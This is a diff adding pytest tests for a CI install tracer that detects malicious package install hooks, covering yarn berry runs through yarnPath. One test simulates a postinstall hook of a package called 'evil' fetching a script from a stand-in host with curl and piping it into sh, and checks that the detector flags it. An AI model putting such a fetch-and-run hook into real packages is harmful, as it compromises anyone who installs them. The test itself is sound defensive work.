@@ -1,0 +1,45 @@
+"""Issue 13's known misses, found by installing real projects: each test lays out what the
+tracer saw in the real install (with the Build helper of test_rules) and checks the class
+behind it is fixed, while the dangerous variant of the same shape is still caught."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from ciwatch.record.events import FileHash
+from ciwatch.record.vocabulary import FileOp
+from tests.test_rules import PROJECT, Build, found, npm_env, only
+
+
+@pytest.fixture
+def build(tmp_path: Path) -> Build:
+    return Build(tmp_path)
+
+
+# -- yarn berry run through yarnPath ---------------------------------------------------------
+
+
+@pytest.mark.parametrize("release", [".yarn/releases/yarn-4.4.1.cjs", ".yarn/releases/yarn-3.6.4.js"])
+def test_yarn_berry_through_yarn_path_runs_hooks_that_are_attributed(build: Build, release: str) -> None:
+    # Yarn berry has no `sh -c`: its own shell runs the script's first command (through the
+    # node wrapper in BERRY_BIN_FOLDER) directly under yarn's node process.
+    yarn = build.root.spawn(["node", f"{PROJECT}/{release}", "install"])
+    hook = yarn.spawn(
+        ["/tmp/xfs-1a2b3c4d/node", "install.js"],
+        env=npm_env("evil", "1.0.0", "postinstall"),
+        cwd=f"{PROJECT}/node_modules/evil",
+    )
+    hook.spawn(["curl", "-fsSL", "https://get.example/x"], stdout="pipe:[7]")
+    hook.spawn(["sh"], stdin="pipe:[7]")
+    verdict = build.judge()
+    assert verdict.hooks == 1
+    finding = only(verdict, "hook-shell")
+    assert (finding.ecosystem, finding.package, finding.hook) == ("yarn", "evil@1.0.0", "postinstall")
+
+
+def test_a_script_merely_named_like_a_yarn_release_is_not_yarn(build: Build) -> None:
+    tool = build.root.spawn(["node", f"{PROJECT}/scripts/yarn-helper.cjs"])
+    tool.spawn(["sh", "-c", "true"], env=npm_env("evil", "1.0.0", "postinstall"))
+    assert build.judge().hooks == 0
